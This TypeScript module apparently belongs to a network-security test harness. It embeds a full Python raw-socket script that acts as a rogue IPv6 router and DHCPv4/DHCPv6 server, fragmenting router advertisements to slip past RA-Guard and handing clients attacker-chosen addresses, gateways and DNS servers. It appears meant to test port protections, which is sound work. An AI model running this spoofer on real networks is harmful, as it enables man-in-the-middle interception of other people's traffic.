/** The program of somebody at a host port who plays the router and the DHCP server. Pure text. */

/** What a rogue gives out: found at a client, it got through. */
export const ROGUE = {
  prefix: '3fff:bad::/64',
  address6: '3fff:bad::66',
  server6: '3fff:bad::53',
  address4: '192.0.2.66',
  server4: '192.0.2.1',
} as const;

/**
 * `rogue.py INTERFACE SECONDS [PART...]`, of the parts `ra`, `dhcp4` and `dhcp6` all unless told: sends advertisements,
 * whole and in fragments that hide what they are (RFC 7113), and answers whoever asks for DHCPv4 or DHCPv6, from the server's port and from another one. Prints its own link-local
 * address and what it sent. Only frames of its own: no socket of the kernel would send them.
 */
export const ROGUE_SCRIPT = `import socket, struct, sys, time

interface, seconds = sys.argv[1], float(sys.argv[2])
parts = set(sys.argv[3:]) or {"ra", "dhcp4", "dhcp6"}
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
link.bind((interface, 0))
mac = link.getsockname()[4]
own = bytes([0xFE, 0x80]) + bytes(6) + bytes([mac[0] ^ 2]) + mac[1:3] + b"\\xff\\xfe" + mac[3:]
address6 = lambda text: socket.inet_pton(socket.AF_INET6, text)
PREFIX, ADDRESS6, SERVER6 = address6("${ROGUE.prefix}".split("/")[0]), address6("${ROGUE.address6}"), address6("${ROGUE.server6}")
ADDRESS4, SERVER4 = socket.inet_aton("${ROGUE.address4}"), socket.inet_aton("${ROGUE.server4}")
ALL_NODES, ALL_NODES_MAC = address6("ff02::1"), bytes.fromhex("333300000001")
DUID = struct.pack("!HH", 3, 1) + mac
sent = {"advertisements": 0, "fragmented": 0, "dhcp4": 0, "dhcp6": 0}


def checksum(octets):
    octets += bytes(len(octets) % 2)
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    while total >> 16: total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def checked(protocol, destination, body, at):
    pseudo = own + destination + struct.pack("!I3xB", len(body), protocol)
    return body[:at] + struct.pack("!H", checksum(pseudo + body) or 0xFFFF) + body[at + 2:]


def frame6(to, destination, following, payload):
    return to + mac + struct.pack("!HIHBB", 0x86DD, 0x60000000, len(payload), following, 255) + own + destination + payload


def option(kind, value): return struct.pack("!HH", kind, len(value)) + value


def advertise():
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0)
    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0) + PREFIX
    body += struct.pack("!BBHI", 25, 3, 0, 1800) + SERVER6 + struct.pack("!BB", 1, 1) + mac
    body = checked(58, ALL_NODES, body, 2)
    link.send(frame6(ALL_NODES_MAC, ALL_NODES, 58, body))
    sent["advertisements"] += 1
    # A header of nothing but padding before the message, so that its type is not where one looks first.
    whole = struct.pack("!BBBB4x", 58, 0, 1, 4) + body
    identification = int(time.time() * 1000) & 0xFFFFFFFF
    for start, end, more in ((0, 16, 1), (16, len(whole), 0)):
        header = struct.pack("!BBHI", 60, 0, start | more, identification)
        link.send(frame6(ALL_NODES_MAC, ALL_NODES, 44, header + whole[start:end]))
    sent["fragmented"] += 1


def answer6(to, destination, message):
    kind, transaction = message[0], message[1:4]
    options, at = {}, 4
    while at + 4 <= len(message):
        code, size = struct.unpack("!HH", message[at:at + 4])
        options[code] = message[at + 4:at + 4 + size]
        at += 4 + size
    if kind not in (1, 3, 11) or 1 not in options: return
    reply = bytes([2 if kind == 1 else 7]) + transaction + option(1, options[1]) + option(2, DUID) + option(7, b"\\xff")
    if 3 in options:
        leased = option(5, ADDRESS6 + struct.pack("!II", 1800, 1800))
        reply += option(3, options[3][:4] + struct.pack("!II", 900, 1440) + leased)
    reply += option(23, SERVER6)
    for port in (547, 1547):
        body = struct.pack("!HHHH", port, 546, 8 + len(reply), 0) + reply
        link.send(frame6(to, destination, 17, checked(17, destination, body, 6)))
    sent["dhcp6"] += 1


def answer4(message):
    kind, at = None, 240
    while at + 2 <= len(message) and message[at] != 255:
        if message[at] == 0:
            at += 1
            continue
        if message[at] == 53: kind = message[at + 2]
        at += 2 + message[at + 1]
    if kind not in (1, 3): return
    given = lambda code, value: bytes([code, len(value)]) + value
    reply = bytes([2]) + message[1:4] + message[4:12] + bytes(4) + ADDRESS4 + SERVER4 + bytes(4) + message[28:236]
    reply += message[236:240] + given(53, bytes([2 if kind == 1 else 5])) + given(54, SERVER4)
    reply += given(51, struct.pack("!I", 600)) + given(1, bytes([255, 255, 255, 0])) + given(3, SERVER4) + given(6, SERVER4)
    reply += b"\\xff"
    for port in (67, 1067):
        body = struct.pack("!HHHH", port, 68, 8 + len(reply), 0) + reply
        header = struct.pack("!BBHIBBH", 0x45, 0, 20 + len(body), 0, 64, 17, 0) + SERVER4 + b"\\xff" * 4
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        link.send(b"\\xff" * 6 + mac + b"\\x08\\x00" + header + body)
    sent["dhcp4"] += 1


until = time.time() + seconds
again = 0
while time.time() < until:
    if "ra" in parts and time.time() > again:
        advertise()
        again = time.time() + 0.5
    link.settimeout(0.1)
    try:
        octets = link.recv(4096)
    except socket.timeout:
        continue
    if octets[6:12] == mac: continue
    if "dhcp6" in parts and octets[12:14] == b"\\x86\\xdd" and octets[20] == 17 and octets[56:58] == struct.pack("!H", 547):
        answer6(octets[6:12], octets[22:38], octets[62:])
    elif "dhcp4" in parts and octets[12:14] == b"\\x08\\x00" and octets[23] == 17 and octets[36:38] == struct.pack("!H", 67):
        answer4(octets[42:])
print(socket.inet_ntop(socket.AF_INET6, own), *["%s=%d" % pair for pair in sent.items()])
`;
